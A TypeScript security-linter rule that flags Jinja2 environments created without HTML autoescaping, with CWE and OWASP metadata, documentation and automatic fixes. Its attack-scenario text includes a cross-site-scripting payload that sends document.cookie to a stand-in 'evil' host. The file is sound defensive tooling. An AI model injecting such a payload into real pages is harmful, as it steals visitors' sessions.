// jinja2-autoescape-false: a Jinja2 Environment that does not escape HTML (Bandit B701, Ruff S701).
import type { Node } from '../../src/analysis/syntax-node.js';
import { defineRule, type RuleContext } from '../../src/analysis/rule.js';
import type { CallInfo } from '../../src/analysis/python/call-name.js';
import { appendArgument, replaceNode } from '../../src/analysis/python/fixes.js';

export default defineRule({
  meta: {
    id: 'jinja2-autoescape-false',
    title: 'Jinja2 environment without autoescaping',
    category: 'output-encoding',
    cwe: ['CWE-79', 'CWE-116', 'CWE-94'],
    owasp: { '2021': ['A03:2021'], '2025': ['A05:2025'] },
    severity: 'high',
    riskScore: 7,
    confidence: 'high',
    evidence: 'config',
    threat: 'integrity',
    timeline: '7-days',
    technology: ['jinja2'],
    aliases: { bandit: ['B701'], ruff: ['S701'] },
    fixable: true,
    messages: {
      disabled: '`{{fn}}` is created with autoescape=False; variables rendered into HTML are not escaped (XSS).',
      missing:
        '`{{fn}}` does not set autoescape, and Jinja2 does not escape by default; pass autoescape=True or select_autoescape().',
      computed: '`{{fn}}` takes autoescape from a computed value; make sure it is true for HTML templates.',
    },
    docs: {
      whatItDoes:
        'Flags `jinja2.Environment(...)` calls whose `autoescape` is missing, false, or a value other than `True` / `select_autoescape(...)`.',
      whyBad:
        'Jinja2 escapes nothing unless told to. Any user-controlled value rendered with `{{ value }}` into an HTML template becomes markup and script.',
      businessImpact:
        'Stored or reflected cross-site scripting: session theft, actions performed as the victim, defacement.',
      attackScenario:
        'A user sets their display name to `<script>fetch("//evil/?c="+document.cookie)</script>`; every page that renders the name runs the script in visitors\' browsers.',
      example: 'env = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"))',
      useInstead:
        'env = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"), autoescape=jinja2.select_autoescape())',
      testing: 'Render a template with a value `<b>x</b>` and assert the output contains `&lt;b&gt;`.',
      knownProblems:
        'Environments used only for non-HTML output (SQL, YAML, e-mail text) are reported too; suppress them with a reason. `jinja2.Template(...)` and `**kwargs` are not checked.',
      references: [
        'https://jinja.palletsprojects.com/en/stable/api/#autoescaping',
        'https://cwe.mitre.org/data/definitions/79.html',
        'https://bandit.readthedocs.io/en/latest/plugins/b701_jinja2_autoescape_false.html',
      ],
    },
  },
  hints: ['SandboxedEnvironment', 'jinja2'],
  create(ctx) {
    const check = (call: CallInfo) => {
      if (call.hasSplat) return; // autoescape may arrive through **options
      const value = call.kwarg('autoescape');
      const fn = call.callee.text;
      if (!value) {
        const list = call.argumentList;
        const fix = list
          ? { description: 'Add autoescape=True.', edits: [appendArgument(list, 'autoescape=True', ctx.source)] }
          : undefined;
        ctx.report({ node: call.node, messageId: 'missing', data: { fn }, ...(fix ? { fix } : {}) });
        return;
      }
      if (ctx.truthiness(value) === true || isSelectAutoescape(ctx, value)) return;
      const disabled = ctx.truthiness(value) === false;
      ctx.report({
        node: call.node,
        messageId: disabled ? 'disabled' : 'computed',
        data: { fn },
        ...(disabled
          ? { fix: { description: 'Set autoescape=True.', edits: [replaceNode(value, 'True')] } }
          : { confidence: 'medium' as const }),
      });
    };
    return {
      calls: {
        'jinja2.Environment': check,
        'jinja2.environment.Environment': check,
        'jinja2.sandbox.SandboxedEnvironment': check,
      },
    };
  },
});

/** `select_autoescape(...)` / `jinja2.select_autoescape(...)`, as Bandit accepts it. */
function isSelectAutoescape(ctx: RuleContext, value: Node): boolean {
  if (value.type !== 'call') return false;
  const name = ctx.call(value).name ?? '';
  return name === 'select_autoescape' || name.endsWith('.select_autoescape');
}
